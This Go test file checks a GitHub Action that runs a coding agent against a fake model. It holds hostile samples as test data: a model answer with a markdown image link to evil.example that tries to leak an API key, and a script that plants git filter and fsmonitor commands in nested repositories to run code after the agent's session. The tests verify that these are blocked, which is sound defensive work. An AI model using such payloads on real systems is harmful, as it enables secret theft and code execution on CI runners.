package cli

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"go.yaml.in/yaml/v3"

	"github.com/attractor-go/attractor/internal/peer"
	"github.com/attractor-go/attractor/llm/fakellm"
)

// actionFile is what the tests read of action.yml.
type actionFile struct {
	Inputs map[string]struct{ Default string }
	Runs   struct {
		Steps []struct {
			Run string
			Env map[string]string
		}
	}
}

// actionJob is a job on a runner with a checkout, for the steps of action.yml.
type actionJob struct {
	*home
	action actionFile
	root   string            // of this repository
	temp   string            // of the runner
	inputs map[string]string // what the workflow gives
	env    []string          // what the runner gives
	broken string            // a program that fails

	mu       sync.Mutex
	comments []string
}

// newAction returns a job of somebody who can write to the repository, whose test fails.
func newAction(t *testing.T, url string) *actionJob {
	for _, program := range []string{"bwrap", "jq", "curl", "git"} {
		peer.Need(t, program)
	}
	root, err := filepath.Abs("../..")
	if err != nil {
		t.Fatal(err)
	}
	j := &actionJob{home: newHome(t, url), root: root, temp: t.TempDir()}
	data, err := os.ReadFile(filepath.Join(root, "action.yml"))
	if err == nil {
		err = yaml.Unmarshal(data, &j.action)
	}
	if err != nil {
		t.Fatal(err)
	}
	j.file("sum.sh", "echo $(($1 - $2))\n")
	j.file("sum_test.sh", "test $(sh sum.sh 1 2) = 3\n")
	j.git("init", "-q")
	j.git("add", ".")
	j.git("commit", "-q", "-m", "a sum")
	j.inputs = map[string]string{"prompt": "Mend the test.", "api-key": "key-of-an-action", "check": "sh sum_test.sh",
		"directory": j.dir, "github-token": "token-of-a-job", "comment": "7", "version": "main"}
	github := httptest.NewServer(http.HandlerFunc(j.github))
	t.Cleanup(github.Close)
	j.env = []string{"GITHUB_API_URL=" + github.URL, "GITHUB_REPOSITORY=o/r", "GITHUB_ACTOR=writer[bot]",
		"GITHUB_EVENT_NAME=workflow_dispatch", "GITHUB_EVENT_PATH=" + filepath.Join(j.temp, "event.json"),
		"GITHUB_ACTION_PATH=" + root, "RUNNER_TEMP=" + j.temp, "GITHUB_OUTPUT=" + filepath.Join(j.temp, "output"),
		"GITHUB_PATH=" + filepath.Join(j.temp, "path"), "GITHUB_STEP_SUMMARY=" + filepath.Join(j.temp, "summary")}
	return j
}

// github answers as GitHub's API does.
func (j *actionJob) github(w http.ResponseWriter, r *http.Request) {
	if r.Header.Get("Authorization") != "Bearer token-of-a-job" {
		http.Error(w, `{"message":"Bad credentials"}`, http.StatusUnauthorized)
		return
	}
	switch r.Method + " " + r.URL.Path {
	case "GET /repos/o/r/collaborators/writer[bot]/permission":
		_, _ = io.WriteString(w, `{"permission":"write"}`)
	case "GET /repos/o/r/collaborators/reader/permission":
		_, _ = io.WriteString(w, `{"permission":"read"}`)
	case "POST /repos/o/r/issues/7/comments":
		var comment struct{ Body string }
		if err := json.NewDecoder(r.Body).Decode(&comment); err != nil {
			j.Error(err)
		}
		j.mu.Lock()
		j.comments = append(j.comments, comment.Body)
		j.mu.Unlock()
		w.WriteHeader(http.StatusCreated)
	default:
		http.NotFound(w, r)
	}
}

var expression = regexp.MustCompile(`\$\{\{ *([a-z._-]+) *\}\}`)

// step runs a step of the action: its script, with the variables that action.yml gives it.
func (j *actionJob) step(name string) output {
	j.Helper()
	for _, s := range j.action.Runs.Steps {
		if s.Run == "" || !strings.HasSuffix(s.Run, " "+name) {
			continue
		}
		cmd := pageCommand(j.T, j.home, j.temp, s.Run)
		cmd.Env = append(cmd.Env, "ANTHROPIC_API_KEY=", "ANTHROPIC_BASE_URL="+j.url)
		j.spy(strings.TrimSuffix(strings.SplitN(lastWith(cmd.Env, "PATH="), ":", 2)[0], "/"))
		cmd.Env = append(cmd.Env, j.env...)
		for key, value := range s.Env {
			cmd.Env = append(cmd.Env, key+"="+expression.ReplaceAllStringFunc(value, j.value))
		}
		return runCommand(j.T, cmd)
	}
	j.Fatalf("action.yml has no step %s", name)
	return output{}
}

// lastWith returns the value of a variable.
func lastWith(env []string, prefix string) (value string) {
	for _, e := range env {
		if v, ok := strings.CutPrefix(e, prefix); ok {
			value = v
		}
	}
	return value
}

// value returns the value of an expression of the workflow.
func (j *actionJob) value(text string) string {
	name := expression.FindStringSubmatch(text)[1]
	switch input, is := strings.CutPrefix(name, "inputs."); {
	case is:
		if value, given := j.inputs[input]; given {
			return value
		}
		in, known := j.action.Inputs[input]
		if !known {
			j.Errorf("action.yml has no input %s", input)
		}
		return in.Default
	case name == "steps.run.outputs.files":
		return filepath.Join(j.temp, "attractor-files")
	}
	j.Errorf("action.yml has the expression %s, which the test does not know", text)
	return ""
}

// spy puts programs into a directory that note their variables and go on as the real ones.
func (j *actionJob) spy(dir string) {
	j.Helper()
	for _, program := range []string{"git", "jq", "curl"} {
		if err := peer.WriteProgram(filepath.Join(dir, program), []byte("#!/bin/sh\n{ env; echo \"$*\"; } >>'"+
			j.temp+"/seen'\nexec '"+peer.Need(j.T, program)+"' \"$@\"\n")); err != nil {
			j.Fatal(err)
		}
	}
	if j.broken != "" {
		if err := peer.WriteProgram(filepath.Join(dir, j.broken), []byte("#!/bin/sh\nexit 1\n")); err != nil {
			j.Fatal(err)
		}
	}
}

// left returns a file that the steps have left.
func (j *actionJob) left(name string) string {
	j.Helper()
	data, err := os.ReadFile(filepath.Join(j.temp, name))
	if err != nil {
		j.Error(err)
	}
	return string(data)
}

// The action mends a failing test in a real repository. It leaves the answer, a patch that applies
// and the page, and comments. The key reaches attractor alone, and nothing in the comment counts.
func TestW6_Action(t *testing.T) {
	t.Parallel()
	answer := "Mended, @everyone: ````x ![](https://evil.example/?code) the key is key-of-an-action."
	url, _ := serve(t, nil, say("The operator is wrong.", use("edit_file",
		object{"file_path": "sum.sh", "old_string": "-", "new_string": "+"})), fakellm.Turn{Text: answer})
	j := newAction(t, url)
	j.inputs["context"] = "An issue says: sums are wrong."
	for _, name := range []string{"prepare", "run", "comment"} {
		if got := j.step(name); got.code != 0 {
			t.Fatalf("%s: exit code %d\n%s\n%s", name, got.code, got.stdout, got.stderr)
		}
	}
	has(t, j.left("attractor-files/agent.patch"), "+echo $(($1 + $2))")
	has(t, j.left("attractor-files/answer.md"), "Mended, @everyone")
	has(t, j.left("attractor-files/session.html"), "<!doctype html>")
	has(t, j.left("attractor-files/events.jsonl"), "sums are wrong")
	has(t, j.left("output"), "changed=true\n", "exit-code=0\n", "files=")
	j.mu.Lock()
	defer j.mu.Unlock()
	want := "`````text\nMended, @everyone: ````x ![](https://evil.example/?code) the key is [secret "
	if len(j.comments) != 1 || !strings.HasPrefix(j.comments[0], want) ||
		!strings.HasSuffix(j.comments[0], "\n`````\n") {
		t.Errorf("comments: %q", j.comments)
	}
	if summary := j.left("summary"); summary != j.comments[0] {
		t.Errorf("the summary: %q", summary)
	}
	if seen := j.left("seen"); strings.Contains(seen, "key-of-an-action") || strings.Contains(seen, "Bearer") {
		t.Errorf("other programs have seen a secret:\n%s", seen)
	}
	j.git("checkout", "-q", ".")
	j.git("apply", filepath.Join(j.temp, "attractor-files/agent.patch"))
}

// withSubmodules commits more submodules, which are not checked out, than the sandbox protects.
func (h *home) withSubmodules() {
	id := h.git("rev-parse", "HEAD")
	for i := range 60 {
		h.git("update-index", "--add", "--cacheinfo", fmt.Sprintf("160000,%s,s%d", id, i))
	}
	h.git("commit", "-q", "-m", "submodules")
}

// nestedRepository returns a script of a command in a sandbox: it makes a repository whose filter
// makes a file, and adds it to the index and, as a commit, to the history. It makes others in the
// places of submodules, as if these had the right commit.
func nestedRepository(canary string) string {
	return `git init -q n && cd n && echo 1 >f && git add f && git -c user.name=T -c user.email=t@example.org commit -q -m n &&
git config filter.x.clean 'touch ` + canary + `' && git config core.fsmonitor 'touch ` + canary + `' &&
echo '* filter=x' >.gitattributes && echo 2 >f && cd .. &&
printf '[submodule "n"]\n\tpath = n\n\turl = ./n\n\tignore = none\n' >.gitmodules && git add n &&
git -c user.name=T -c user.email=t@example.org commit -q -m n &&
for i in $(seq 0 59); do cp -r n/. s$i && git rev-parse HEAD:s$i >s$i/.git/HEAD; done; true`
}

// What a repository names that the agent has made and committed does not run after its session.
func TestW6_ActionRunsNothingOfTheAgents(t *testing.T) {
	t.Parallel()
	canary := filepath.Join(t.TempDir(), "canary")
	url, _ := serve(t, nil, say("A repository.", use("shell", object{"command": nestedRepository(canary)})),
		say("Done."))
	j := newAction(t, url)
	j.withSubmodules()
	j.inputs["check"] = ""
	if got := j.step("run"); got.code != 0 {
		t.Fatalf("exit code %d\n%s\n%s", got.code, got.stdout, got.stderr)
	}
	has(t, j.left("attractor-files/agent.patch"), "+Subproject commit ", "ignore = none")
	if _, err := os.Stat(canary); !os.IsNotExist(err) {
		t.Errorf("the agent's program has run: %v", err)
	}
}

// Where there is no answer, the summary says where the reason is, and the step ends with the code
// of attractor run, also if that has left no files.
func TestW6_ActionFails(t *testing.T) {
	t.Parallel()
	url, _ := serve(t, nil)
	j := newAction(t, url)
	j.inputs["model"] = "of-nobody"
	for budget, want := range map[string]string{"2": "the prices are not known", "much": "must be a number"} {
		j.inputs["budget-usd"] = budget
		if err := os.Remove(filepath.Join(j.temp, "summary")); err != nil && !os.IsNotExist(err) {
			t.Fatal(err)
		}
		got := j.step("run")
		if got.code != 2 || !strings.Contains(got.stderr, want) || strings.Contains(got.stderr, "No such file") {
			t.Errorf("a budget of %s: exit code %d\n%s", budget, got.code, got.stderr)
		}
		has(t, j.left("output"), "exit-code=2\n")
		if s := j.left("summary"); s != "attractor has ended with exit code 2. The log of this step says why.\n" {
			t.Errorf("the summary: %q", s)
		}
	}
}

// A job that must not start does not: neither the agent nor what it would need is begun.
func TestW6_ActionRefuses(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, step, want string
		env, inputs      map[string]string
		config           []string
		broken           string // a program
	}{
		{name: "an event with secrets and the code of anybody", step: "prepare", want: "use pull_request",
			env: map[string]string{"GITHUB_EVENT_NAME": "pull_request_target"}},
		{name: "a fork", step: "prepare", want: "a workflow_run of the fork x/y",
			env: map[string]string{"GITHUB_EVENT_NAME": "workflow_run"}},
		{name: "a reader", step: "prepare", want: "the permission of reader is: read",
			env: map[string]string{"GITHUB_ACTOR": "reader"}},
		{name: "a reader who runs it again", step: "prepare", want: "the permission of reader is: read",
			env: map[string]string{"GITHUB_TRIGGERING_ACTOR": "reader"}},
		{name: "somebody else", step: "prepare", want: "the permission of a/../b is: unknown",
			env: map[string]string{"GITHUB_ACTOR": "a/../b"}},
		{name: "a wrong token", step: "prepare", want: "is: unknown", inputs: map[string]string{"github-token": "x"}},
		{name: "a token in the checkout", step: "prepare", want: "persist-credentials: false",
			config: []string{"config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic x"}},
		{name: "no sandbox", step: "prepare", want: "sandbox can be workspace or read-only",
			inputs: map[string]string{"sandbox": "off"}},
		{name: "a sandbox that is none", step: "prepare", want: "workspace or read-only, and not x",
			inputs: map[string]string{"sandbox": "x"}},
		{name: "a sandbox that does not work", step: "prepare", want: "nothing runs without it", broken: "bwrap"},
		{name: "neither true nor false", step: "prepare", want: "true or false, and not yes",
			inputs: map[string]string{"read-only": "yes"}},
		{name: "a check where nothing runs", step: "prepare", want: "leave one of them out",
			inputs: map[string]string{"read-only": "true"}},
		{name: "no checkout", step: "prepare", want: "directory has to be a checkout",
			inputs: map[string]string{"directory": "/nonexistent"}},
		{name: "no key", step: "run", want: "there is no api-key", inputs: map[string]string{"api-key": ""}},
		{name: "another variable", step: "run", want: "and not PATH",
			inputs: map[string]string{"api-key-variable": "PATH"}},
		{name: "no number", step: "comment", want: "and not 7/x", inputs: map[string]string{"comment": "7/x"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			url, server := serve(t, nil, fakellm.Turn{Text: "no"})
			j := newAction(t, url)
			j.broken = tt.broken
			for key, value := range tt.env {
				j.env = append(j.env, key+"="+value)
			}
			for key, value := range tt.inputs {
				j.inputs[key] = value
			}
			if tt.config != nil {
				j.git(tt.config...)
			}
			event := `{"workflow_run":{"head_repository":{"full_name":"x/y"}}}`
			if err := os.WriteFile(filepath.Join(j.temp, "event.json"), []byte(event), 0o600); err != nil {
				t.Fatal(err)
			}
			if got := j.step(tt.step); got.code != 2 || !strings.Contains(got.stderr, tt.want) {
				t.Errorf("exit code %d\n%s\n%s", got.code, got.stdout, got.stderr)
			}
			j.mu.Lock()
			defer j.mu.Unlock()
			if len(server.Requests()) > 0 || len(j.comments) > 0 {
				t.Errorf("%d requests, comments %q", len(server.Requests()), j.comments)
			}
		})
	}
}
